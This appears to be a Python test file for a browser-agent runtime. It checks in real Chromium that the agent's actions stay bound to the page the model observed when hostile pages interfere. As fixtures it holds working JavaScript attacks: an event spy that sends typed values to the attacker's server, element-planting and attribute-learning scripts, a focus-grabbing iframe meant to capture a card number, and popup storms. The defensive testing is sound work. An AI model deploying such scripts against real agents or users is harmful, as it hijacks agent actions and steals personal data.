"""Actions on hostile pages, in real Chromium with real loopback servers: every action
that names an element acts on the document the model observed, or on nothing.

The attacker learns the episode's private marking attribute the way any page can (a
MutationObserver sees the marking write it), then moves the tab to its own host, or
opens a popup from a cross-origin frame, and plants elements under that attribute with
every id the model could name. Before, the model's next ``fill`` was typed there and its
``click`` clicked there, with no error; a page that planted the attribute on its own
elements ended the episode; and a popup nobody asked for became the tab actions went to.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from linewise.records import EpisodeSummary, StepRecord
from linewise.runtime.browser.chromium import Browser
from linewise.runtime.episode import EpisodeConfig
from linewise.runtime.tasks.schema import WebTask
from linewise.runtime.trace import read_steps
from linewise.testing import bid_matching
from tests.runtime.test_secret_binding import GO, Model, _page, until
from tests.support.episodes import resources_of, run_episode
from tests.support.sites import Site

LEARN = ("<script>window.learned = null; new MutationObserver((changes) => { for (const c "
         "of changes) if (!window.learned && (c.attributeName || '').startsWith('data-lw-')) "
         "window.learned = c.attributeName; }).observe(document, {attributes: true, "
         "subtree: true});</script>")
"""How a page learns the marking's private attribute: it sees the marking write it (the
random part of the name is not needed, only the public prefix)."""

SPY = ("<script>for (const t of ['input', 'change', 'click', 'dblclick', 'keydown', "
       "'mouseover', 'focusin']) document.addEventListener(t, (e) => fetch('/acted?t=' + t "
       "+ '&v=' + encodeURIComponent(e.target.value || '')), true);</script>")
"""Reports every event an action causes in the attacker's document."""

PLANT = ("<h1>Evil</h1><div id='planted'></div>" + SPY + "<script>const q = new "
         "URLSearchParams(location.search); const attr = q.get('attr'); const box = "
         "document.getElementById('planted'); for (let i = 0; i < 60; i++) { const el = "
         "q.get('kind') === 'select' ? document.createElement('select') : "
         "document.createElement('input'); if (el.tagName === 'SELECT') el.innerHTML = "
         "'<option>blue</option><option>red</option>'; else el.value = 'planted'; "
         "el.setAttribute(attr, String(i)); box.appendChild(el); }</script>")
"""The attacker's page: an element under the learned attribute for every id up to 60."""

FORM = ("<h1>Checkout</h1><input aria-label='Email'>"
        "<select aria-label='Colour'><option>blue</option><option>red</option></select>"
        "<button onclick=\"fetch('/paid')\">Pay</button>")

CARD = "alice@example.com card 4111-1111-1111-1111"

ACTIONS = {
    "fill": (f"fill('{{bid}}', '{CARD}')", "textbox 'Email'", "input"),
    "clear": ("clear('{bid}')", "textbox 'Email'", "input"),
    "click": ("click('{bid}')", "button 'Pay'", "input"),
    "dblclick": ("dblclick('{bid}')", "button 'Pay'", "input"),
    "hover": ("hover('{bid}')", "button 'Pay'", "input"),
    "focus": ("focus('{bid}')", "textbox 'Email'", "input"),
    "press": ("press('{bid}', 'Enter')", "textbox 'Email'", "input"),
    "select_option": ("select_option('{bid}', 'red')", "combobox 'Colour'", "select"),
}


@pytest.fixture
def servers() -> Iterator[tuple[Site, Site]]:
    """The task's site and the attacker's, on another port of the same host."""
    site, evil = Site(), Site()
    evil.pages["/plant"] = _page(PLANT)
    try:
        yield site, evil
    finally:
        site.close()
        evil.close()


def hits(site: Site, path: str) -> int:
    """Requests for ``path``, whatever their query."""
    return sum(n for p, n in site.hits.items() if p.split("?")[0] == path)


def acted(evil: Site) -> list[str]:
    return sorted(path for path in evil.hits if path.startswith("/acted"))


async def episode(browser: Browser, site: Site, evil: Site, path: str, model: Model,
                  out: Path, max_steps: int = 3) -> tuple[EpisodeSummary, list[StepRecord]]:
    task = WebTask(id="observed", url=f"http://127.0.0.1:{site.port}{path}", goal="Pay.",
                   max_steps=max_steps,
                   allowed_domains=(f"127.0.0.1:{site.port}", f"127.0.0.1:{evil.port}",
                                    f"localhost:{evil.port}"))
    summary = await run_episode(task, resources_of(browser, model), out,
                                EpisodeConfig(screenshots=False))
    return summary, read_steps(out / "observed")


def on(label: str, template: str) -> Model:
    """A model that acts on the element ``label`` of the page it was shown."""
    return Model([lambda tree: template.format(bid=bid_matching(tree, re.escape(label)))])


@pytest.mark.slow
@pytest.mark.parametrize("name", list(ACTIONS))
async def test_an_action_is_not_taken_on_the_page_a_navigation_planted(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path, name: str
) -> None:
    site, evil = servers
    template, label, kind = ACTIONS[name]
    site.pages["/pay"] = _page(FORM + LEARN + GO.format(
        action=f"location.href = 'http://127.0.0.1:{evil.port}/plant?kind={kind}&attr=' "
               "+ window.learned"))

    async def navigate_away() -> None:
        site.pages["/go"] = (200, {}, "1")
        await until(lambda: hits(evil, "/plant") > 0, "the page went to the attacker's host")
        await asyncio.sleep(0.3)  # lets the attacker's page plant: no assertion on time

    model = on(label, template)
    model.while_thinking[0] = navigate_away
    summary, steps = await episode(browser, site, evil, "/pay", model, tmp_path)
    assert acted(evil) == []
    assert "The page changed since it was observed" in (steps[0].action_error or "")
    assert f"127.0.0.1:{evil.port}" in (steps[0].action_error or "")
    assert summary.status == "finished", summary.error
    assert site.hits["/paid"] == 0


@pytest.mark.slow
@pytest.mark.parametrize("name", ["fill", "click"])
async def test_an_action_is_not_taken_in_a_popup_a_cross_origin_frame_opened(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path, name: str
) -> None:
    site, evil = servers
    template, label, kind = ACTIONS[name]
    site.pages["/pay"] = _page(
        FORM + f"<iframe src='http://127.0.0.1:{evil.port}/ad'></iframe>")
    # the frame learns the attribute from its own marking, then opens its popup
    evil.pages["/ad"] = _page("<p>Ad</p>" + LEARN + GO.format(
        action=f"window.open('http://127.0.0.1:{evil.port}/plant?kind={kind}&attr=' "
               "+ window.learned)"))

    async def open_popup() -> None:
        evil.pages["/go"] = (200, {}, "1")
        await until(lambda: hits(evil, "/plant") > 0, "the frame opened its popup")
        await asyncio.sleep(0.3)

    model = on(label, template)
    model.while_thinking[0] = open_popup
    summary, steps = await episode(browser, site, evil, "/pay", model, tmp_path)
    assert acted(evil) == []
    assert summary.status == "finished", summary.error
    # the action went to the page the model observed, which is still the one it is on
    assert steps[0].action_error is None
    assert site.hits["/paid"] == (1 if name == "click" else 0)
    after = steps[1]
    assert after.url == f"http://127.0.0.1:{site.port}/pay"
    assert [(t.active, t.url.split("?")[0]) for t in after.tabs] == [
        (True, f"http://127.0.0.1:{site.port}/pay"),
        (False, f"http://127.0.0.1:{evil.port}/plant"),
    ]


LINK_NEXT = "link 'Next'"
BUTTON_OPEN = "button 'Open'"


@pytest.mark.slow
async def test_a_popup_the_agent_opened_becomes_the_active_tab(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, evil = servers
    site.pages["/links"] = _page(
        "<a href='/next' target='_blank'>Next</a>"
        "<button onclick=\"window.open('/script')\">Open</button>")
    site.pages["/next"] = _page("<button>Continue</button>")
    site.pages["/script"] = _page("<button>Scripted</button>")
    model = Model([
        lambda tree: f"click('{bid_matching(tree, re.escape(LINK_NEXT))}')",
        "tab_focus(0)",
        lambda tree: f"click('{bid_matching(tree, re.escape(BUTTON_OPEN))}')",
    ])
    summary, steps = await episode(browser, site, evil, "/links", model, tmp_path,
                                   max_steps=4)
    assert summary.status == "finished", summary.error
    assert [s.action_error for s in steps] == [None] * 4
    assert steps[1].url == f"http://127.0.0.1:{site.port}/next"
    assert steps[3].url == f"http://127.0.0.1:{site.port}/script"
    assert [t.active for t in steps[3].tabs] == [False, False, True]


@pytest.mark.slow
async def test_popups_a_frame_opens_during_an_action_stay_in_the_background(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, evil = servers
    site.pages["/pay"] = _page(
        FORM + f"<iframe src='http://127.0.0.1:{evil.port}/spam'></iframe>")
    # from when the model has seen the page, a popup every 50 ms for about two seconds
    evil.pages["/spam"] = _page("<p>Ad</p>" + GO.format(
        action="let n = 0; const t = setInterval(() => { window.open('/popup?n=' + n); "
               "if (++n >= 40) clearInterval(t); }, 50)"))
    evil.pages["/popup"] = _page("<p>Popup</p>")

    async def start_popups() -> None:
        evil.pages["/go"] = (200, {}, "1")
        await until(lambda: hits(evil, "/popup") > 1, "the frame opens popups")

    model = on("button 'Pay'", "click('{bid}')")
    model.while_thinking[0] = start_popups
    summary, steps = await episode(browser, site, evil, "/pay", model, tmp_path)
    assert summary.status == "finished", summary.error
    # The click reached the page's own button or nothing: under this storm it is lost
    # about one time in ten (docs/security.md, "What the action binding does not
    # cover"), never delivered to a popup.
    assert site.hits["/paid"] <= 1
    assert not any(p.startswith("/paid") for p in evil.hits)
    assert any(p.startswith("/popup") for p in evil.hits)
    for step in steps:
        assert step.url == f"http://127.0.0.1:{site.port}/pay"
        assert step.tabs[0].active
    assert len(steps[-1].tabs) > 2


@pytest.mark.slow
async def test_text_is_not_typed_into_a_cross_origin_frame_that_takes_the_focus(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, evil = servers
    site.pages["/pay"] = _page(
        FORM + f"<iframe src='http://localhost:{evil.port}/grab'></iframe>")
    evil.pages["/grab"] = _page(
        "<input id='grab'>" + SPY + "<script>setInterval(() => "
        "document.getElementById('grab').focus(), 0)</script>")
    model = on("textbox 'Email'", f"fill('{{bid}}', '{CARD}')")
    summary, steps = await episode(browser, site, evil, "/pay", model, tmp_path)
    assert summary.status == "finished", summary.error
    assert steps[0].action_error is None
    assert [p for p in acted(evil) if "card" in p] == []
    assert f"value='{CARD}'" in steps[1].axtree


PLANTED_HERE = ("<h1>Planted</h1><div id='planted'></div><script>const attr = new "
                "URLSearchParams(location.search).get('attr'); const box = "
                "document.getElementById('planted'); for (let i = 0; i < 60; i++) { const b "
                "= document.createElement('button'); b.textContent = 'Planted ' + i; "
                "b.setAttribute(attr, String(i)); b.onclick = () => fetch('/planted-click'); "
                "box.appendChild(b); }</script>")


@pytest.mark.slow
async def test_a_page_that_plants_the_attribute_does_not_end_the_episode(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, evil = servers
    site.pages["/pay"] = _page(FORM + LEARN + GO.format(
        action="location.href = '/planted?attr=' + window.learned"))
    site.pages["/planted"] = _page(PLANTED_HERE)

    async def navigate() -> None:
        site.pages["/go"] = (200, {}, "1")
        await until(lambda: hits(site, "/planted") > 0, "the page went to its planted page")
        await asyncio.sleep(0.3)

    model = Model(["noop(100)", lambda tree: f"click('{bid_matching(tree, 'Planted 7')}')"],
                  {0: navigate})
    summary, steps = await episode(browser, site, evil, "/pay", model, tmp_path)
    assert summary.status == "finished", summary.error
    assert steps[1].url.startswith(f"http://127.0.0.1:{site.port}/planted")
    assert "Planted 59" in steps[1].axtree
    # observed, the planted page is the page: the model acts on what it saw there
    assert steps[1].action_error is None and site.hits["/planted-click"] == 1


@pytest.mark.slow
async def test_elements_a_page_copies_the_attribute_to_keep_their_own_ids(
    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, evil = servers
    # Once marked, the page puts a copy of every marked element, with its id, before the
    # original, and forgets the marking's counter (the marking's "first visit" check).
    site.pages["/pay"] = _page(FORM + "<div id='copies'></div>" + LEARN + GO.format(
        action="const a = window.learned; const box = document.getElementById('copies'); "
               "for (const el of [...document.querySelectorAll('[' + a + ']')]) { if "
               "(el.tagName !== 'BUTTON') continue; const c = document.createElement('button'); "
               "c.textContent = 'Copy'; c.onclick = () => fetch('/copy'); "
               "c.setAttribute(a, el.getAttribute(a)); document.body.prepend(c); } "
               "delete window.browsergym_elem_counter; fetch('/copied')"))

    async def copy() -> None:
        site.pages["/go"] = (200, {}, "1")
        await until(lambda: site.hits["/copied"] > 0, "the page copied its marked elements")

    pay = "button 'Pay'"
    model = Model(["noop(10)", lambda tree: f"click('{bid_matching(tree, re.escape(pay))}')"],
                  {0: copy})
    summary, steps = await episode(browser, site, evil, "/pay", model, tmp_path)
    assert summary.status == "finished", summary.error
    pay_ids = [bid_matching(s.axtree, re.escape(pay)) for s in steps[:2]]
    assert pay_ids[0] == pay_ids[1]
    assert bid_matching(steps[1].axtree, "button 'Copy'") != pay_ids[0]
    assert site.hits["/paid"] == 1 and site.hits["/copy"] == 0
